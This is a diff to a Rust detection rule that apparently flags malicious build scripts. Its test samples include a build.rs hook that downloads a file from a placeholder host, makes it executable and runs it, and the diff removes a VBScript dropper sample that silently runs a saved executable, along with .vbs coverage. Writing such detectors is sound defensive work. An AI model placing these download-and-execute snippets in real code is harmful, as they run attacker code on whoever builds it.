@@ -33,10 +33,6 @@ pub static RULE: Rule = Rule {
             "build.rs",
             "use std::process::Command;\nfn main() {\n    let d = std::env::temp_dir().join(\".h\");\n    Command::new(\"curl\").args([\"-o\", d.to_str().unwrap(), \"https://t.example.com/h\"]).status().ok();\n    Command::new(\"chmod\").arg(\"+x\").arg(&d).status().ok();\n    Command::new(&d).spawn().ok();\n}\n",
         ),
-        Sample::File(
-            "run.vbs",
-            "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile \"C:\\a.exe\"\nCreateObject(\"WScript.Shell\").Run \"C:\\a.exe\", 0\n",
-        ),
     ],
     misses: &[
         Sample::File(
@@ -206,7 +202,7 @@ fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
     };
     let runs = find(RUNS);
     let path = file.path.to_ascii_lowercase();
-    let builds = path.ends_with("build.rs") || path.ends_with(".gradle") || path.ends_with(".vbs");
+    let builds = path.ends_with("build.rs") || path.ends_with(".gradle");
     if let Some(socket) = find(SOCKETS)
         && runs.is_some()
         && (find(SHELLS).is_some() || name == "Lua" && text.contains(":receive("))
